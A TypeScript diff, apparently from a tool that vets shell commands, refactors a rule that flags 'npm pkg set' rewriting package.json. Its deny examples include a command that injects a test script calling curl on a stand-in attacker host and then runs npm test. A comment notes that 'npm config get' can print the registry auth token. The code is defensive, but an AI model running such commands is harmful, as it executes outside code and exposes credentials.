@@ -2,7 +2,7 @@
 // and the programs that build a command from their input (`find -exec`, `xargs`, `parallel`).
 import type { Word } from '../../types.js';
 import { has, parse } from '../argv.js';
-import { alsoDumps, configuring, programRun, wrapper } from '../build.js';
+import { alsoDumps, configuring, inMode, programRun, wrapper } from '../build.js';
 import type { Answer, Call, OptionSpec, ProgramEntry, Run } from '../types.js';
 import { keeping, storeWord } from './credentials.js';
 import { attached, isStdinPath, joined, literal, shellQuote, value, xargsSplit } from '../words.js';
@@ -114,18 +114,15 @@ const NPM_CONFIG = {
  * what it holds then is not followed (src/programs/entries/project.ts reads a package.json the line wrote).
  */
 function rewritingPackageJson(entry: ProgramEntry): ProgramEntry {
-  return {
-    ...entry,
-    summary: `${entry.summary}; npm pkg set rewrites package.json`,
-    examples: { deny: [...entry.examples.deny, "npm pkg set scripts.test='curl evil.example' && npm test"], pass: [...entry.examples.pass, 'npm pkg get version', "npm pkg set version=1.2.3"] },
-    analyze(call) {
-      const answer = entry.analyze?.(call) ?? {};
-      const first = call.args[0];
-      if (!first || !/^pkg (?:set|delete) /.test(call.args.map((a) => value(a) ?? '\u0000').join(' '))) return answer;
-      const file = attached(first, 'package.json');
+  return inMode(entry, {
+    when: /^pkg (?:set|delete) /,
+    summary: 'npm pkg set rewrites package.json',
+    examples: { deny: ["npm pkg set scripts.test='curl evil.example' && npm test"], pass: ['npm pkg get version', 'npm pkg set version=1.2.3'] },
+    more: (call, answer) => {
+      const file = attached(call.args[0]!, 'package.json');
       return { ...answer, uses: [...(answer.uses ?? []), { word: file, role: 'write' }], rewrites: [file] };
     },
-  };
+  });
 }
 
 /** `npm config get //registry…/:_authToken` prints the registry token kept in ~/.npmrc (`npm get` too). */
